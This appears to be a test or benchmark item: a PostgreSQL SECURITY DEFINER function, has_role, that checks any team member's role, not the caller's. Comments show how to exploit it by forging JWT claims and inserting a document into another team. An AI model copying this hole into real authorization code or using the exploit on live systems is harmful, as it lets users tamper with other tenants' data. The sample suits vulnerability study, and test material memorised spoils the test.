-- A user changes documents of teams in which anybody is a member, because the helper forgets who asks.
-- about: documents, folders, has_role, invitations
-- as: ho_documents_user
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001", "role":
-- exploit: "authenticated"}';
-- exploit: INSERT INTO documents (team_id, title) VALUES ('bbbbbbbb-0000-4000-8000-000000000000',
-- exploit: 'planted');
-- shows: INSERT 0 1
CREATE OR REPLACE FUNCTION private.has_role(team uuid, lowest public.team_role) RETURNS boolean LANGUAGE
  sql STABLE
SECURITY DEFINER SET search_path = ''
AS $$ SELECT EXISTS (SELECT FROM public.team_members m WHERE m.team_id = team AND m.role >= lowest) $$;
